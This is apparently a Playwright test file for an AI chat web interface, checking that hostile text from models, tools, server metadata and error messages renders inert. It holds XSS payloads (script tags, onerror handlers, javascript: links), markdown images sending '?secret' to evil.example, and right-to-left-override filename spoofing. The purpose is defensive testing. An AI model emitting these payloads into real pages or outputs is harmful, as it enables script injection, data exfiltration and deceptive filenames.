"""Texts that want to run, load, hide or reorder something: of models, tools, servers and titles."""

import dataclasses
from typing import Any

import pytest
from playwright.async_api import Page, expect

from ripieno.canisters import TextualContent
from ripieno.ensembles import ServerClaim
from ripieno.exceptions import ToolFault
from tests.browser.conftest import ServePage
from tests.browser.steps import asked, begin, question, say, writing
from tests.support.browsers import Visitor
from tests.support.chats import Written
from tests.support.scripted_models import invoke, invokes, says, scripted, tool

MARKUP = (
    '<img src=x onerror="window.hit=1"><script>window.hit=1</script>'
    '<svg onload="window.hit=1"><style>*{color:red}</style>'
)
REVERSED, HIDDEN, ANSI = "safe\u202egnp.exe", "a\u200bb\u2066c", "\x1b[31mred\x1b[0m\x07"


async def untouched(page: Page) -> None:
    """Asserts that nothing ran, and that there is no element that only a hostile text would make."""
    assert await page.evaluate("window.hit === undefined")
    assert (
        await page.locator("script:not([src]):not([type=importmap]), iframe, object, embed, #page style").count() == 0
    )
    assert await page.locator("img[src^=http], [onerror], [onload], a[href^=javascript], a[href^=data]").count() == 0


@pytest.mark.parametrize(
    "text",
    [
        MARKUP,
        "[click](javascript:window.hit=1) [data](data:text/html,<script>window.hit=1</script>)",
        "![picture](https://evil.example/?secret) ![](//evil.example/x.png)",
        "[link](//evil.example) <https://evil.example/a> <javascript:alert(1)>",
        '<a href="javascript:window.hit=1">x</a><base href="https://evil.example">',
        "```html\n<script>window.hit=1</script>\n```\n`<img src=x onerror=window.hit=1>`",
    ],
)
async def test_the_markdown_of_a_model(serve_page: ServePage, visitor: Visitor, text: str) -> None:
    page = await begin(visitor, await serve_page(scripted(says(text))))
    await expect(page.locator(".text .prose:not(.plain)")).to_be_visible()
    await untouched(page)


async def test_half_of_a_character(serve_page: ServePage, visitor: Visitor) -> None:
    model = scripted(says("**One**."), says("**Half \ud83d**."))
    page = await begin(visitor, await serve_page(model))
    await expect(page.locator(".text strong")).to_have_text("One")
    await say(page, "More.")
    await expect(page.locator(".text strong").last).to_have_text("Half \ufffd")
    # Other texts are rendered in the same request.
    await page.reload()
    await expect(page.locator(".text strong")).to_have_text(["One", "Half \ufffd"])


async def test_the_result_of_a_tool(serve_page: ServePage, visitor: Visitor) -> None:
    async def look(context: Any, arguments: Any) -> Any:
        return [
            TextualContent(text=f"{MARKUP}\n{REVERSED}\n{HIDDEN}\n{ANSI}"),
            TextualContent(text=MARKUP, mime_type="text/html"),
        ]

    page = await begin(
        visitor, await serve_page(scripted(invokes(invoke("look", text=REVERSED)), says()), tool("look", look))
    )
    await expect(page.locator(".call .state")).to_have_text("done")
    await page.locator(".call summary").click()
    shown = page.locator(".call .inside")
    for escape in (
        "safe\\u202egnp.exe",
        "a\\u200bb\\u2066c",
        "\\u001b[31mred\\u001b[0m\\u0007",
        "<script>window.hit=1</script>",
    ):
        await expect(shown).to_contain_text(escape)
    for character in "\u202e\u200b\u2066\x1b\x07":
        assert character not in str(await page.locator(".call").text_content())
    await untouched(page)


async def test_names_and_titles(serve_page: ServePage, visitor: Visitor) -> None:
    page = await begin(visitor, await serve_page(scripted(says())), f"{MARKUP} {REVERSED}")
    await expect(page.locator(".list a")).to_contain_text("<script>")
    await expect(page.get_by_role("heading", level=1)).to_contain_text("safe\\u202egnp.exe")
    assert "\u202e" not in str(await page.locator(".said, .list").all_text_contents())
    await untouched(page)


async def test_a_question(serve_page: ServePage, visitor: Visitor) -> None:
    definition = dataclasses.replace(
        Written().definition,
        claim=ServerClaim(
            server="x</h4><script>window.hit=1</script>", title=MARKUP, description=f"{REVERSED}\n{ANSI}"
        ),
        preview=lambda context, arguments: f"--- a\n+++ a\n@@ -1 +1 @@\n-{MARKUP}\n+{REVERSED}\n",
    )
    page = await asked(visitor, await serve_page(writing(f"{HIDDEN}{ANSI}{MARKUP}"), definition))
    await expect(question(page)).to_contain_text("safe\\u202egnp.exe")
    await expect(question(page)).to_contain_text("\\u200b")
    for character in "\u202e\u200b\x1b\x07":
        assert character not in str(await question(page).text_content())
    await untouched(page)


async def test_reasoning_and_errors(serve_page: ServePage, visitor: Visitor) -> None:
    async def fails(context: Any, arguments: Any) -> str:
        raise ToolFault(f"{MARKUP} {REVERSED}", suggestion=ANSI)

    page = await begin(visitor, await serve_page(scripted(invokes(invoke("look")), says()), tool("look", fails)))
    await expect(page.locator(".call .state")).to_have_text("failed")
    await page.locator(".call summary").click()
    await expect(page.locator(".call .notice")).to_contain_text("safe\\u202egnp.exe")
    await untouched(page)


async def test_joiners_stay_since_scripts_need_them(serve_page: ServePage, visitor: Visitor) -> None:
    text = "👩\u200d💻 می\u200cشد"
    page = await begin(visitor, await serve_page(scripted(says())), text)
    await expect(page.get_by_role("article", name="You").get_by_role("paragraph")).to_have_text(text)
    await expect(page.locator(".header h1")).to_have_text(text)
